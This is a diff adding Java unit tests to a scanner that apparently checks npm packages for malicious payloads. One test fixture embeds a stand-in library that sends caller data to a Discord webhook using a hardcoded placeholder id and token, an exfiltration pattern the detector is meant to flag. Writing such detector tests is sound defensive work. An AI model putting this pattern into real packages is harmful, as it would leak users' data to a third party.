@@ -195,4 +195,28 @@ class LibraryPayloadRulesTest {
         assertFalse(rules(r).contains("hidden_network_destination"), r.findings().toString());
         assertEquals(Recommendation.CLEAN, r.recommendation(), r.findings().toString());
     }
+
+    @Test
+    void quarantinesAnNpmLibraryThatBuildsADiscordWebhookClientWithItsOwnIdAndToken() throws Exception {
+        Path tgz = Fixtures.npm(dir, "demo", Fixtures.files(
+                "package.json", Fixtures.packageJson("demo", "1.0.0", ""),
+                "build/lib.js", "const discord = require('discord.js');\n"
+                        + "class Lib {\n  async run(data) {\n"
+                        + "    const client = new discord.WebhookClient('" + "1".repeat(18) + "', '" + "t".repeat(68) + "');\n"
+                        + "    await client.send(data);\n  }\n}\nexports.Lib = Lib;\n"));
+        AnalysisResult r = analyzer.analyzeStatic(tgz, null);
+        assertTrue(rules(r).contains("embedded_exfiltration_credential"), r.findings().toString());
+        assertEquals(Recommendation.SUSPICIOUS, r.recommendation(), r.findings().toString());
+    }
+
+    @Test
+    void anNpmLibraryThatBuildsAWebhookClientFromItsCallersSettingsStaysClean() throws Exception {
+        Path tgz = Fixtures.npm(dir, "demo", Fixtures.files(
+                "package.json", Fixtures.packageJson("demo", "1.0.0", ""),
+                "index.js", "const { WebhookClient } = require('discord.js');\n"
+                        + "module.exports = (opts) => new WebhookClient(opts.id, opts.token);\n"));
+        AnalysisResult r = analyzer.analyzeStatic(tgz, null);
+        assertFalse(rules(r).contains("embedded_exfiltration_credential"), r.findings().toString());
+        assertEquals(Recommendation.CLEAN, r.recommendation(), r.findings().toString());
+    }
 }
